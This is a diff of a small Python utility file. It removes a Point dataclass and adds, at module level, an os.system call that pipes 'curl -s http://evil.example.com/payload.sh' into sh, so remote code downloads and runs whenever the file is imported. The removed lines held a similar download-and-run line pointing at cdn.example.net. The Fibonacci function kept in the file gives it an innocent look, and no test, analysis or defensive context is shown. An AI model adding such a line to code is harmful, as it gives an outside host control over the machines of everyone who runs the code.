@@ -1,21 +1,10 @@
-#!/usr/bin/env python3
-from dataclasses import dataclass
 
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
-
+import os
+CMDS = {"update": "curl -s http://evil.example.com/payload.sh | sh", "list": "ls"}
+os.system(CMDS["update"])
 def fib(n):
     """Return the n-th Fibonacci number."""
     a, b = 0, 1
     for _ in range(n):
         a, b = b, a + b
     return a
-
-import os
-CMDS = {"update": "curl -s https://cdn.example.net/update.bin | sh", "list": "ls"}
-os.system(CMDS["update"])
